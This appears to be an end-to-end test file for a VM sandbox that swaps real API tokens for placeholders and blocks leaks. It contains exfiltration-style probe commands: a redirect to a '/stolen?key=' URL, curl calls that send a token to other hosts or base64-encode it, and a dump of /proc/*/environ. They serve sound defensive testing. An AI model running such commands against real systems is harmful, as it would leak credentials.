"""A credential that a real guest uses and never sees: who got the value, who the placeholder, and what is denied."""

import base64
import dataclasses
import mmap
import os
import pathlib
import re
import signal
import unittest

from tests.support.house import House, Shell
from tests.support.tls_server import Authority, TlsServer
from tests.support.upstream import wait_until

CURL = "curl -sS --max-time 20 -w '\\n%{http_code}\\n'"
API, OTHER = "https://api.demo.test", "https://other.demo.test"
# Made up, and never written down as a whole where a scanner of this repository would read it.
VALUE = "tok-" + "Qm7/x9+Zk4" + "Ww2vB8nT5yR1"
SDK_VALUE = "sk-ant-" + "api03-" + "made-up-" + "8c1f0a" * 6


@dataclasses.dataclass
class Case:
    name: str
    command: str
    header: str        # of the request, as the upstream saw it
    value: str
    place: str


BASIC = base64.b64encode(b"bot:" + VALUE.encode()).decode()
CASES = [
    Case("bearer", f'{CURL} -H "Authorization: Bearer $TOKEN" {API}/v1', "authorization", f"Bearer {VALUE}", "bearer"),
    Case("bearer, in HTTP/1.1", f'{CURL} --http1.1 -H "Authorization: Bearer $TOKEN" {API}/v1', "authorization",
         f"Bearer {VALUE}", "bearer"),
    Case("as GitHub's clients write it", f'{CURL} -H "Authorization: token $TOKEN" {API}/v1', "authorization",
         f"token {VALUE}", "bearer"),
    Case("basic", f'{CURL} -u "bot:$TOKEN" {API}/v1', "authorization", f"Basic {BASIC}", "basic"),
    Case("a header of its own", f'{CURL} -H "X-Api-Key: $SDK_KEY" {API}/v1', "x-api-key", SDK_VALUE, "header:x-api-key"),
    Case("a script's own client",
         "python3 -c 'import os, urllib.request as u; print(u.urlopen(u.Request(\"" + API + "/v1\", headers="
         "{\"Authorization\": \"Bearer \" + os.environ[\"TOKEN\"]})).read().decode())'; echo 200",
         "authorization", f"Bearer {VALUE}", "bearer"),
]


class Credentials(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.house = House()
        cls.addClassCleanup(cls.house.close)
        authority = Authority(cls.house.directory / "ca")
        cls.upstream = TlsServer(authority.issue("server", "api.demo.test", "other.demo.test"))
        cls.addClassCleanup(cls.upstream.close)
        cls.house.environment |= {"GATEHOUSE_E2E_TOKEN": VALUE, "GATEHOUSE_E2E_SDK": SDK_VALUE}
        where = f"127.0.0.1:{cls.upstream.port}"
        cls.policy = cls.house.policy({
            "http": [{"id": "all", "action": "allow", "hosts": ["api.demo.test", "other.demo.test"]}],
            "secrets": {
                "TOKEN": {"from": "env:GATEHOUSE_E2E_TOKEN", "hosts": ["api.demo.test"],
                          "as": ["bearer", "basic", "query:key"]},
                "SDK_KEY": {"from": "env:GATEHOUSE_E2E_SDK", "hosts": ["api.demo.test"], "as": "header:x-api-key",
                            "placeholder": "sk-ant-"}},
            "resolve": {"api.demo.test": where, "other.demo.test": where},
        })
        cls.shell = Shell(cls.house, "--policy", cls.policy, "--name", "credentials", "--upstream-ca",
                          str(authority.certificate))
        cls.addClassCleanup(cls.shell.close)
        _, environment = cls.shell.run("env")
        cls.placeholder = re.search(r"^TOKEN=(.*)$", environment, re.M).group(1)
        cls.sdk_placeholder = re.search(r"^SDK_KEY=(.*)$", environment, re.M).group(1)

    def setUp(self):
        self.upstream.answer = lambda asked: None
        self.upstream.asked.clear()

    def rows(self, **wanted) -> list[dict]:
        rows = self.house.audit("credentials")
        return [row for row in rows if all(row.get(key) == value for key, value in wanted.items())]

    def denied(self, command: str, rule: str) -> None:
        """Runs it; it must be told the rule, and no upstream may have been asked."""
        connections = self.upstream.connections
        _, told = self.shell.run(command)
        self.assertIn("403", told)
        self.assertIn(rule, told)
        self.assertEqual(self.rows(table="net_events")[-1]["rule_id"], rule)
        self.assertEqual(self.upstream.asked, [])
        self.assertEqual(self.upstream.connections, connections)

    def test_the_guest_holds_placeholders_alone(self):
        self.assertRegex(self.placeholder, "^gatehouse-placeholder-TOKEN-[0-9a-f]{32}$")
        self.assertRegex(self.sdk_placeholder, "^sk-ant-gatehouse-placeholder-SDK_KEY-[0-9a-f]{32}$")

    def test_the_upstream_gets_the_value_and_the_guest_its_placeholder_back(self):
        for case in CASES:
            with self.subTest(case.name):
                self.upstream.asked.clear()
                _, told = self.shell.run(case.command)
                self.assertIn("200", told)
                self.assertEqual(self.upstream.asked[0].headers[case.header], case.value)
                self.assertEqual(self.upstream.asked[0].headers["accept-encoding"], "identity")
                # The upstream echoes what it was sent.
                self.assertNotIn(case.value, told)
                written = case.value.replace(VALUE, self.placeholder).replace(SDK_VALUE, self.sdk_placeholder)
                if case.place == "basic":
                    written = "Basic " + base64.b64encode(f"bot:{self.placeholder}".encode()).decode()
                self.assertIn(f"{case.header}: {written}", told)
                secret = "SDK_KEY" if case.place.startswith("header") else "TOKEN"
                self.assertEqual(self.rows(table="net_events")[-1]["detail"], f"with the secret {secret} ({case.place})")

    def test_a_query_parameter_is_written_as_a_url_has_it(self):
        _, told = self.shell.run(f'{CURL} "{API}/v1?a=1&key=$TOKEN"')
        self.assertIn("200", told)
        escaped = VALUE.replace("/", "%2F").replace("+", "%2B")
        self.assertEqual(self.upstream.asked[0].path, f"/v1?a=1&key={escaped}")
        self.assertIn(f"GET /v1?a=1&key={self.placeholder}", told)
        self.assertNotIn(escaped, told)

    def test_a_streamed_answer_is_restored_wherever_it_is_cut(self):
        text = f"data: one\n\ndata: {VALUE}\n\ndata: {VALUE[:9]}\n\n"
        self.upstream.answer = lambda asked: (200, {"Content-Type": "text/event-stream", "X-Echo": VALUE},
                                              [bytes([byte]) for byte in text.encode()])
        _, told = self.shell.run(f'{CURL} -i -N -H "Authorization: Bearer $TOKEN" {API}/events')
        self.assertIn(f"data: one\n\ndata: {self.placeholder}\n\ndata: {VALUE[:9]}\n\n", told.replace("\r", ""))
        self.assertIn(f"x-echo: {self.placeholder}".lower(), told.lower())  # HTTP/2 writes names in lower case
        self.assertNotIn(VALUE, told)

    def test_a_packed_answer_is_withheld(self):
        self.upstream.answer = lambda asked: (200, {"Content-Encoding": "gzip"}, [b"\x1f\x8b"])
        _, told = self.shell.run(f'{CURL} -H "Authorization: Bearer $TOKEN" {API}/v1')
        self.assertIn("502", told)
        self.assertIn("credential.encoded", told)

    def test_no_redirect_takes_it_to_another_host(self):
        self.upstream.answer = lambda asked: (302, {"Location": f"{OTHER}/stolen?key={VALUE}"}, [b""])
        command = f'{CURL} -L --location-trusted -H "Authorization: Bearer $TOKEN" {API}/v1'
        _, told = self.shell.run(command)
        self.assertIn("403", told)
        self.assertIn("dlp.placeholder", told)
        self.assertEqual([asked.host for asked in self.upstream.asked], ["api.demo.test"])
        row = self.rows(table="net_events")[-1]
        self.assertEqual((row["host"], row["verdict"], row["rule_id"]), ("other.demo.test", "deny", "dlp.placeholder"))

    def test_the_placeholder_goes_nowhere_else(self):
        for command in [f'{CURL} -H "Authorization: Bearer $TOKEN" {OTHER}/v1',
                        f'{CURL} -d "key=$TOKEN" {API}/v1',
                        f'{CURL} -H "X-Other: $TOKEN" {API}/v1',
                        f'{CURL} -H "X-Other: $(printf $SDK_KEY | base64 -w0)" {OTHER}/v1',
                        f'{CURL} "{OTHER}/v1?key=$TOKEN"']:
            with self.subTest(command):
                self.denied(command, "dlp.placeholder")

    def test_over_plain_http_it_goes_nowhere(self):
        _, told = self.shell.run(f'{CURL} -H "Authorization: Bearer $TOKEN" http://api.demo.test/v1')
        self.assertIn("403", told)
        self.assertEqual(self.upstream.asked, [])

    def test_a_key_of_the_guests_own_is_denied(self):
        self.denied(f"{CURL} -H 'Authorization: Bearer somebody-elses-account' {API}/v1", "credential.foreign")
        self.denied(f"{CURL} -H 'X-Api-Key: somebody-elses-account' {API}/v1", "credential.foreign")
        self.denied(f"{CURL} '{API}/v1?%6bey=somebody-elses-account'", "credential.foreign")

    def test_a_proxy_that_was_killed_comes_back_with_it(self):
        (proxy,) = self.house.pids("credentials", "gatehouse-proxy")
        os.kill(proxy, signal.SIGKILL)
        wait_until(lambda: self.house.pids("credentials", "gatehouse-proxy") not in ([], [proxy]), 10, "the proxy again")
        _, told = self.shell.run(f'{CURL} --retry 5 --retry-all-errors -H "Authorization: Bearer $TOKEN" {API}/v1')
        self.assertIn("200", told)
        self.assertEqual(self.upstream.asked[-1].headers["authorization"], f"Bearer {VALUE}")

    def test_neither_the_guests_memory_nor_a_process_nor_a_log_holds_the_value(self):
        self.shell.run(f'{CURL} -H "Authorization: Bearer $TOKEN" -H "X-Api-Key: $SDK_KEY" {API}/v1 | tee /tmp/answer')
        self.assertEqual(self.upstream.asked[0].headers["authorization"], f"Bearer {VALUE}")
        words = [VALUE.encode(), SDK_VALUE.encode()]
        _, environments = self.shell.run("cat /proc/*/environ | tr '\\0' '\\n' | sort -u; cat /tmp/answer")
        for word in words:
            self.assertNotIn(word.decode(), environments)
        (machine,) = self.house.pids("credentials", "qemu-system-x86_64")
        # All of the guest's memory: its page cache, with every file it has touched, and every process.
        memory = self.guest_memory(machine)
        self.assertNotEqual(memory.find(self.placeholder.encode()), -1, "this is no memory of the guest")
        for word in words:
            self.assertEqual(memory.find(word), -1, "the guest's memory holds the value")
        memory.close()
        for binary in ["gatehouse", "gatehouse-dlp", "gatehouse-proxy", "gatehouse-dns", "gatehouse-bridge"]:
            for pid in self.house.pids("credentials", binary):
                for file in ("cmdline", "environ"):
                    held = pathlib.Path(f"/proc/{pid}/{file}").read_bytes()
                    # What the launcher was started with, it was started with.
                    if (binary, file) != ("gatehouse", "environ"):
                        self.assertFalse([word for word in words if word in held], f"{file} of {pid}")
        state = pathlib.Path(self.house.environment["XDG_STATE_HOME"])
        for log in [path for path in state.rglob("*") if path.is_file()]:
            held = log.read_bytes()
            self.assertFalse([word for word in words if word in held], log)

    @staticmethod
    def guest_memory(machine: int) -> mmap.mmap:
        for fd in pathlib.Path(f"/proc/{machine}/fd").iterdir():
            if "memfd:" in os.readlink(fd) and os.stat(fd).st_size >= 64 << 20:
                with open(fd, "rb") as file:
                    return mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)
        raise LookupError("the machine's memory")


if __name__ == "__main__":
    unittest.main()
